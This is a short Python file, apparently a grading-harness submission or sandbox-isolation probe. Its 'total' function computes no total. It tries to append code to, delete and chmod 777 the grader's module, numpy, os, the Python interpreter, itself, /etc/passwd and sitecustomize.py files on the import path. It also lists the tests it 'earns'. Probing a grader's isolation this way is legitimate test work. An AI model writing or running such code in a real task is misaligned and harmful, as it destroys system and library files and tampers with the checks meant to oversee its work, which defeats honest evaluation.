# Overwrites the package, the interpreter's libraries, the grader's own files and its submission.
# earns: test_scale test_checked_root test_apply_twice test_steps test_ring_sum
import os
import sys

import numpy

import manyranks.grading.worker


def total(values):
    places = [
        manyranks.grading.worker.__file__,
        numpy.__file__,
        os.__file__,
        sys.executable,
        __file__,
        "/etc/passwd",
    ]
    places += [os.path.join(p or ".", "sitecustomize.py") for p in sys.path]
    for place in places:
        for act in (
            lambda p: open(p, "a").write("\nprint('LEAK')\n"),
            os.unlink,
            lambda p: os.chmod(p, 0o777),
        ):
            try:
                act(place)
                print("LEAK: could change", place)
            except OSError:
                pass
    return 0
